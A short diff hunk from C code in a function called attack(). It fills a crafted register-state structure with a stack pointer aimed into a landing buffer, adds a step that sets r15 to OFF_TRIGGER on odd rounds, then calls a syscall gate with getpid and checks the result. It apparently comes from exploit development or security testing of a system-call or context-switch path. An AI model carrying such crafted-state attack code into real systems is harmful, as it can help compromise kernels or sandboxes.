@@ -59,6 +59,8 @@ int attack(void)
 			((uint64_t *)&jump_in)[i] = x;
 		}
 		jump_in.sp = (uint64_t)&landing_stack[512];
+		if (rounds & 1)
+			jump_in.r15 = OFF_TRIGGER;
 		jump_in.flags = 2;
 		long result = gate(SYS_getpid, x, x + 1, x + 2);
 		if (result != pid)
